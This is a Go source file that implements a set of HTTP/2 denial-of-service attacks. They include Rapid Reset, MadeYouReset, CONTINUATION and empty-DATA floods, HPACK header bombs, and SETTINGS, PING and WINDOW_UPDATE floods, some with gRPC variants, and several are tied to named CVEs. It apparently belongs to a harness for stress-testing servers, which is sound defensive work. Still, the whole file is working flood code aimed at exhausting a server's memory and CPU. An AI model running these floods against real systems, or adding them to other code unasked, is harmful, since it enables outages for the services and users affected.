package hostile

import (
	"bytes"
	"context"
	"encoding/binary"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// burstBytes is how many bytes a flood writes at once.
const burstBytes = 32 << 10

// flood writes frames as fast as the server reads, until n are written or it is
// cut off. next returns the i-th unit of the attack.
func flood(ctx context.Context, o *offender, n int, next func(i int) []byte) int {
	var burst []byte
	sent := 0
	for i := range n {
		burst = append(burst, next(i)...)
		if len(burst) < burstBytes && i < n-1 {
			continue
		}
		select {
		case <-o.ended:
			return sent
		default:
		}
		if o.send(ctx, burst) != nil {
			return sent
		}
		sent, burst = i+1, burst[:0]
	}
	return sent
}

// stream is the id of the i-th stream of a client.
func stream(i int) uint32 { return uint32(2*i + 1) }

// runRapidReset opens streams and resets each at once (CVE-2023-44487).
func runRapidReset(ctx context.Context, o *offender, p Port, opt Options) int {
	cancel := binary.BigEndian.AppendUint32(nil, uint32(http2.ErrCodeCancel))
	return flood(ctx, o, opt.Frames, func(i int) []byte {
		b := frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream(i), o.block(p))
		return append(b, frame(http2.FrameRSTStream, 0, stream(i), cancel)...)
	})
}

// runMadeYouReset opens streams and makes the server reset each by an increment
// of zero, which is a stream error (CVE-2025-8671).
func runMadeYouReset(ctx context.Context, o *offender, p Port, opt Options) int {
	return flood(ctx, o, opt.Frames, func(i int) []byte {
		b := frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream(i), o.block(p))
		return append(b, frame(http2.FrameWindowUpdate, 0, stream(i), make([]byte, 4))...)
	})
}

// runContinuationFlood sends one endless header block (CVE-2023-45288):
// fields of 1 KiB that are never indexed.
func runContinuationFlood(ctx context.Context, o *offender, p Port, opt Options) int {
	o.openBlock(ctx)
	head := frame(http2.FrameHeaders, 0, 1, o.block(p))
	piece := frame(http2.FrameContinuation, 0, 1,
		o.fields(hpack.HeaderField{Name: "x-flood", Value: string(bytes.Repeat([]byte{'~'}, 1<<10)), Sensitive: true}))
	return flood(ctx, o, opt.Frames, func(i int) []byte {
		if i == 0 {
			return head
		}
		return piece
	})
}

// runEmptyContinuationFlood sends one header block in empty pieces.
func runEmptyContinuationFlood(ctx context.Context, o *offender, p Port, opt Options) int {
	o.openBlock(ctx)
	head := frame(http2.FrameHeaders, 0, 1, o.block(p))
	piece := frame(http2.FrameContinuation, 0, 1, nil)
	return flood(ctx, o, opt.Frames, func(i int) []byte {
		if i == 0 {
			return head
		}
		return piece
	})
}

func runSettingsFlood(ctx context.Context, o *offender, _ Port, opt Options) int {
	f := frame(http2.FrameSettings, 0, 0, setting(http2.SettingInitialWindowSize, 1<<20))
	return flood(ctx, o, opt.Frames, func(int) []byte { return f })
}

func runPingFlood(ctx context.Context, o *offender, _ Port, opt Options) int {
	f := frame(http2.FramePing, 0, 0, []byte("12345678"))
	return flood(ctx, o, opt.Frames, func(int) []byte { return f })
}

// runWindowUpdateFlood widens the window of one stream byte by byte, which is
// possible 2³⁰ times.
func runWindowUpdateFlood(ctx context.Context, o *offender, p Port, opt Options) int {
	open := frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, o.block(p))
	f := frame(http2.FrameWindowUpdate, 0, 1, []byte{0, 0, 0, 1})
	return flood(ctx, o, opt.Frames, func(i int) []byte {
		if i == 0 {
			return open
		}
		return f
	})
}

// runEmptyDataFlood sends a body in empty frames without end (CVE-2019-9518).
func runEmptyDataFlood(ctx context.Context, o *offender, p Port, opt Options) int {
	open := frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, o.block(p))
	f := frame(http2.FrameData, 0, 1, nil)
	return flood(ctx, o, opt.Frames, func(i int) []byte {
		if i == 0 {
			return open
		}
		return f
	})
}

func runUnknownFrameFlood(ctx context.Context, o *offender, _ Port, opt Options) int {
	f := frame(0xfa, 0, 0, make([]byte, 16))
	return flood(ctx, o, opt.Frames, func(int) []byte { return f })
}

// runHeaderBomb opens streams that stay open, each with the largest header that the
// server accepts, in few bytes: references to one entry of the compression table
// (CVE-2016-6581).
func runHeaderBomb(ctx context.Context, o *offender, p Port, opt Options) int {
	return headerBomb(ctx, o, p, opt.Frames, "x-bomb")
}

// runBinaryHeaderBomb is runHeaderBomb with a name that makes gRPC decode, and
// therefore copy, each value.
func runBinaryHeaderBomb(ctx context.Context, o *offender, p Port, opt Options) int {
	return headerBomb(ctx, o, p, opt.Frames, "x-bomb-bin")
}

func headerBomb(ctx context.Context, o *offender, p Port, streams int, name string) int {
	// What fits into the table of 4096 bytes, with 32 for the entry (RFC 7541, 4.1).
	entry := hpack.HeaderField{Name: name, Value: string(bytes.Repeat([]byte{'A'}, 3800))}
	const rest = 1 << 10 // for the usual fields
	copies := max((o.headerLimit(ctx)-rest)/int(entry.Size()), 1)
	fields := make([]hpack.HeaderField, copies)
	for i := range fields {
		fields[i] = entry
	}
	return flood(ctx, o, streams, func(i int) []byte {
		return frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream(i), o.block(p, fields...))
	})
}

// runUnreadBodyFlood opens streams and fills the window of each with the beginning
// of a large message, which the server must buffer.
func runUnreadBodyFlood(ctx context.Context, o *offender, p Port, opt Options) int {
	const window, piece = 60 << 10, 15 << 10 // RFC 9113, 6.9.2: 65,535 bytes at first; frames of 16 KiB
	body := make([]byte, window)
	if p == GRPC {
		copy(body, binary.BigEndian.AppendUint32([]byte{0}, announced))
	}
	return flood(ctx, o, opt.Frames, func(i int) []byte {
		b := frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream(i), o.block(p))
		for at := 0; at < len(body); at += piece {
			b = append(b, frame(http2.FrameData, 0, stream(i), body[at:at+piece])...)
		}
		return b
	})
}

// fields encodes more fields of the header block that is being sent.
func (o *offender) fields(f ...hpack.HeaderField) []byte {
	o.hpackBuf.Reset()
	for _, it := range f {
		_ = o.hpack.WriteField(it) // a bytes.Buffer never fails
	}
	return bytes.Clone(o.hpackBuf.Bytes())
}
